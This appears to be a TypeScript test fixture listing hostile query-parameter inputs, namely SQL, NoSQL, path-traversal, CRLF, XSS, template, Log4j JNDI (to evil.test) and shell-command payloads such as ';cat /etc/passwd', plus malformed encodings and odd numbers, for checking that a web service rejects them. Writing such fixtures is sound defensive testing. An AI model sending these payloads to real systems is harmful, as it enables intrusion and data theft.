/** Stands in every hostile text, so that it can be looked for where no part of the input may turn up. */
export const MARK = 'ZQX';

/**
 * What a text is, as far as parameters care: `plain` is harmless to those that take any text, `control` holds control
 * characters, `malformed` cannot be decoded, `long` has more than 200 characters.
 */
export type Kind = 'plain' | 'control' | 'malformed' | 'long';

/** Texts as an attacker might send them, percent-encoded where a request line needs it. */
export const HOSTILE_TEXTS: readonly (readonly [name: string, encoded: string, kind: Kind])[] = [
  ['SQL', `'%20OR%20'1'='1';--${MARK}`, 'plain'],
  ['SQL that drops', `%22);DROP%20TABLE%20shippings;--${MARK}`, 'plain'],
  ['a NoSQL operator', `%7B%22$gt%22:%22${MARK}%22%7D`, 'plain'],
  ['dot segments', `..%2F..%2F${MARK}`, 'plain'],
  ['dot segments of Windows', `..%5C..%5C${MARK}`, 'plain'],
  ['encoded dots', `%2e%2e%2f%2e%2e%2f${MARK}`, 'plain'],
  ['dots encoded twice', `%252e%252e%252f${MARK}`, 'plain'],
  ['a URL', `http:%2F%2Fevil.test%2F${MARK}`, 'plain'],
  ['user info of a URL', `@evil.test:80%2F${MARK}`, 'plain'],
  ['a network path', `%2F%2Fevil.test%2F${MARK}`, 'plain'],
  ['CR and LF', `%0D%0AX-Injected:%20${MARK}`, 'control'],
  ['a response in it', `%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0A${MARK}`, 'control'],
  ['LF alone', `%0A{"level":30,"msg":"${MARK}"}`, 'control'],
  ['NUL', `a%00${MARK}`, 'control'],
  ['an escape sequence of terminals', `%1B[31m${MARK}`, 'control'],
  ['backspaces', `%08%08%08${MARK}`, 'control'],
  ['DEL', `%7F${MARK}`, 'control'],
  ['NEL, a control character beyond ASCII', `%C2%85${MARK}`, 'control'],
  ['a line separator of Unicode', `%E2%80%A8${MARK}`, 'plain'],
  ['text turned round', `%E2%80%AE${MARK}`, 'plain'],
  ['a space without width', `%E2%80%8B${MARK}`, 'plain'],
  ['a byte order mark', `%EF%BB%BF${MARK}`, 'plain'],
  ['stacked accents', `Z${'%CC%81'.repeat(50)}${MARK}`, 'plain'],
  ['emoji', `%F0%9F%93%A6${MARK}`, 'plain'],
  ['a stray percent sign', `%${MARK}`, 'malformed'],
  ['half an escape', `${MARK}%4`, 'malformed'],
  ['an escape of IIS', `%u0041${MARK}`, 'malformed'],
  ['overlong UTF-8', `%C0%AF${MARK}`, 'malformed'],
  ['half a surrogate pair', `%ED%A0%80${MARK}`, 'malformed'],
  ['UTF-8 cut off', `${MARK}%E2%82`, 'malformed'],
  ['Latin-1', `G%F6teborg${MARK}`, 'malformed'],
  ['beyond Unicode', `%F4%90%80%80${MARK}`, 'malformed'],
  ['a script', `<script>alert(${MARK})</script>`, 'plain'],
  ['a template', `{{7*7}}$%7B7*7%7D${MARK}`, 'plain'],
  ['a lookup of Log4j', `$%7Bjndi:ldap://evil.test/${MARK}%7D`, 'plain'],
  ['format specifiers', `%25s%25n%25d${MARK}`, 'plain'],
  ['a command', `;cat%20/etc/passwd|${MARK}`, 'plain'],
  ['a parameter in a value', `a%26Status=Delivered%26${MARK}=1`, 'plain'],
  ['a fragment in a value', `a%23${MARK}`, 'plain'],
  ['__proto__', `__proto__[${MARK}]=1`, 'plain'],
  ['what backtracking dreads', `${'a'.repeat(60)}!${MARK}`, 'plain'],
  ['201 characters', `${MARK}${'x'.repeat(198)}`, 'long'],
  ['201 characters of four bytes', `${MARK}${'%F0%9F%93%A6'.repeat(198)}`, 'long'],
  ['15,000 characters', `${MARK}${'x'.repeat(15_000)}`, 'long'],
  ['15,000 spaces inside', `${MARK}${'+'.repeat(15_000)}x`, 'long'],
];

/** Texts that pass for numbers somewhere, and are no plain decimal integers. */
export const HOSTILE_NUMBERS: readonly string[] = [
  ...['-1', '%2B5', '0', '1.0', '1e1', '0x10', '1_000', '2147483648', '9'.repeat(400)],
  ...['NaN', 'Infinity', 'null', '[]', '%EF%BC%91', '%D9%A1', '1%00', '1%202', '__proto__'],
];
